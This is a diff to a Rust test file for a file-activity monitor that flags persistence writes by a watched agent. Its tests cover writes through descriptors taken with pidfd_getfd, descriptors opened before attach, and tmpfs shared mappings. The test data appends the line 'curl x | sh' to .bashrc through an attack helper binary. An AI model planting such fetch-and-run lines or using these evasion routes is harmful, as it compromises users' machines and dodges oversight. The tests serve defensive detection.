@@ -3,7 +3,10 @@
 //! taken with pidfd_getfd, opened before `attach`, or a shared mapping of one) is a `write`
 //! entry, and a write storm of files opened in the capture is still one entry per file.
 //! The first three fail on main 57660c8 (see notes/f15d.md); the last two guard against
-//! duplicates from the new hook and cannot fail there.
+//! duplicates from the new hook and cannot fail there. The store into a tmpfs mapping failed on
+//! f210e45 (its fault dirties no page, only the mtime); the atime test guards the rule that
+//! tells the two apart (it fails when every time update counts as a write). The pidfd_getfd and
+//! before-`attach` tests pass on f210e45: they document those cases of the issue.
 use std::fs::OpenOptions;
 use std::path::Path;
 
@@ -64,13 +67,158 @@ fn a_write_through_an_inherited_descriptor_is_a_write() {
     assert_ne!(w["magic"], "0x0", "{w:#}");
 }
 
-/// A shared mapping of an inherited descriptor, stored to: no write(2) at all.
+/// A process outside the capture that holds `file` open for append as its fd 3 (opened
+/// before it says `ready`), then waits for a line on its stdin and writes `line` to fd 3. Killed
+/// if the test ends before it did.
+struct Holder {
+    child: std::process::Child,
+}
+
+impl Holder {
+    fn start(file: &Path, line: &str) -> Holder {
+        use std::io::BufRead as _;
+        let script = format!(
+            "exec 3>>'{}'; echo ready; read go; echo '{line}' >&3",
+            text(file)
+        );
+        let mut child = std::process::Command::new("sh")
+            .args(["-c", &script])
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut line = String::new();
+        std::io::BufReader::new(child.stdout.take().unwrap())
+            .read_line(&mut line)
+            .unwrap();
+        assert_eq!(
+            line,
+            "ready\n",
+            "the holder did not open {}",
+            file.display()
+        );
+        Holder { child }
+    }
+
+    fn pid(&self) -> u32 {
+        self.child.id()
+    }
+
+    /// Lets it write, and waits for its end.
+    fn go(&mut self) {
+        use std::io::Write as _;
+        let mut stdin = self.child.stdin.take().unwrap();
+        stdin.write_all(b"go\n").unwrap();
+        drop(stdin);
+        assert!(self.child.wait().unwrap().success());
+    }
+}
+
+impl Drop for Holder {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// The agent takes a descriptor open for append to `.bashrc` from a process outside the
+/// capture with `pidfd_getfd`, and writes through it: no open of `.bashrc` in the capture.
 #[test]
-fn a_store_into_a_shared_mapping_is_a_write() {
-    let (_d, home, work) = home();
-    let target = work.join("mapped.bin");
+fn a_write_through_a_descriptor_taken_with_pidfd_getfd_is_persistence() {
+    let (_d, home, _) = home();
+    let bashrc = home.join(".bashrc");
+    let holder = Holder::start(&bashrc, "never written");
+    let pid = holder.pid().to_string();
+    let argv = [
+        env!("CARGO_BIN_EXE_attack_pidfd_write"),
+        &pid,
+        "3",
+        "curl x | sh # pidfd_getfd",
+    ];
+    let r = run_home(&home, &[], &argv);
+    drop(holder);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    assert!(
+        std::fs::read_to_string(&bashrc)
+            .unwrap()
+            .ends_with("curl x | sh # pidfd_getfd\n")
+    );
+    let w = one_write(&r, &bashrc);
+    assert_eq!(w["pid"], r.exec_of(&argv)["pid"], "{w:#}");
+    assert_eq!(w["persistence"], true, "{w:#}");
+    assert!(
+        !r.violations_of(ViolationKind::Persistence).is_empty(),
+        "{:#}",
+        r.report["violations"]
+    );
+}
+
+/// `attach` to a process that opened `.bashrc` for append before the attach and writes to it
+/// after: the write is a `write` entry of the attached process, persistence.
+#[test]
+fn a_write_through_a_descriptor_opened_before_attach_is_persistence() {
+    require_root();
+    let (d, home, _) = home();
+    let bashrc = home.join(".bashrc");
+    let mut holder = Holder::start(&bashrc, "curl x | sh # before attach");
+    let (report, log) = (d.path().join("r.json"), d.path().join("log.jsonl"));
+    let mut monitor = command()
+        .env("HOME", &home)
+        .args([
+            "attach",
+            "--headless",
+            "--fail-on",
+            "persistence",
+            "--report",
+        ])
+        .arg(&report)
+        .arg("--log")
+        .arg(&log)
+        .arg(holder.pid().to_string())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    wait_attached(&log, &mut monitor);
+    holder.go();
+    let out = monitor.wait_with_output().unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(3),
+        "--fail-on persistence: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let r: Value = serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
+    assert_replay_matches(&r, &log);
+    let found: Vec<&Value> = r["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["path"] == text(&bashrc) && f["op"] == "write")
+        .collect();
+    assert_eq!(found.len(), 1, "{:#}", r["files"]);
+    assert_eq!(found[0]["pid"], holder.pid(), "{:#}", found[0]);
+    assert_eq!(found[0]["persistence"], true, "{:#}", found[0]);
+    assert!(
+        r["violations"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|v| v["kind"] == "persistence"
+                && v["summary"].as_str().unwrap().contains(text(&bashrc))),
+        "{:#}",
+        r["violations"]
+    );
+}
+
+/// A shared mapping of an inherited descriptor of a file in `dir`, stored to: no write(2) at
+/// all. The file's pages are clean (written back) and its mtime older than the store, so the
+/// store is what dirties them where the filesystem writes pages back, and what changes the
+/// mtime where it does not (tmpfs).
+fn a_store_into_a_shared_mapping_in(dir: &Path) {
+    let (_d, home, _) = home();
+    let work = tempfile::tempdir_in(dir).unwrap();
+    let target = work.path().join("mapped.bin");
     std::fs::write(&target, vec![0u8; 8192]).unwrap();
-    // Clean pages, so the store is what dirties them.
     unsafe { libc::sync() };
     let f = OpenOptions::new()
         .read(true)
@@ -81,7 +229,74 @@ fn a_store_into_a_shared_mapping_is_a_write() {
     let r = run_home_fd3(&home, &f, &["python3", "-c", script]);
     assert_eq!(r.code(), Some(0), "{}", r.stderr());
     assert_eq!(&std::fs::read(&target).unwrap()[..6], b"mapped");
-    one_write(&r, &target);
+    let w = one_write(&r, &target);
+    assert_eq!(w["magic"], fs_magic(&target), "{w:#}");
+}
+
+/// In /tmp: ext4 here, tmpfs in the 6.1 guest.
+#[test]
+fn a_store_into_a_shared_mapping_is_a_write() {
+    a_store_into_a_shared_mapping_in(Path::new("/tmp"));
+}
+
+/// In /dev/shm (tmpfs): tmpfs has no `page_mkwrite` and no writeback, so the store's fault
+/// dirties no page; the kernel only updates the file's mtime (`file_update_time`).
+#[test]
+fn a_store_into_a_shared_mapping_of_a_tmpfs_file_is_a_write() {
+    a_store_into_a_shared_mapping_in(Path::new("/dev/shm"));
+}
+
+/// Reads update a file's atime, which dirties its inode as a store into a tmpfs mapping does
+/// (I_DIRTY_SYNC, no page): a read(2), and an mmap(2) whose pages are then read, of files in
+/// /tmp and /dev/shm whose atime is old (so relatime updates it) are no write entries.
+#[test]
+fn reads_that_update_the_atime_are_not_writes() {
+    let (_d, home, _) = home();
+    let dirs: Vec<tempfile::TempDir> = ["/tmp", "/dev/shm"]
+        .iter()
+        .map(|d| tempfile::tempdir_in(d).unwrap())
+        .collect();
+    let mut files = Vec::new();
+    for d in &dirs {
+        for name in ["read.bin", "mapped.bin"] {
+            let p = d.path().join(name);
+            std::fs::write(&p, vec![7u8; 8192]).unwrap();
+            let two_days_ago =
+                std::time::SystemTime::now() - std::time::Duration::from_secs(172_800);
+            std::fs::File::options()
+                .write(true)
+                .open(&p)
+                .unwrap()
+                .set_times(std::fs::FileTimes::new().set_accessed(two_days_ago))
+                .unwrap();
+            files.push(p);
+        }
+    }
+    let atime = |p: &Path| std::fs::metadata(p).unwrap().accessed().unwrap();
+    let before: Vec<_> = files.iter().map(|p| atime(p)).collect();
+    let script = "import mmap, sys\n\
+         for read, mapped in zip(sys.argv[1::2], sys.argv[2::2]):\n    \
+             open(read, 'rb').read()\n    \
+             with open(mapped, 'rb') as f:\n        \
+                 m = mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ); assert m[0] == 7; m.close()\n";
+    let mut cmd = vec!["python3", "-c", script];
+    cmd.extend(files.iter().map(|p| text(p)));
+    let r = run_home(&home, &[], &cmd);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    for (p, before) in files.iter().zip(before) {
+        assert!(
+            atime(p) > before,
+            "{}: the atime was not updated",
+            p.display()
+        );
+        assert!(
+            writes(&r, p).is_empty(),
+            "{}: {:#?}",
+            p.display(),
+            r.files_at(text(p))
+        );
+        assert!(!r.files_at(text(p)).is_empty(), "{}: not read", p.display());
+    }
 }
 
 /// `.bashrc` changed through a hard link opened before the capture: persistence, with the
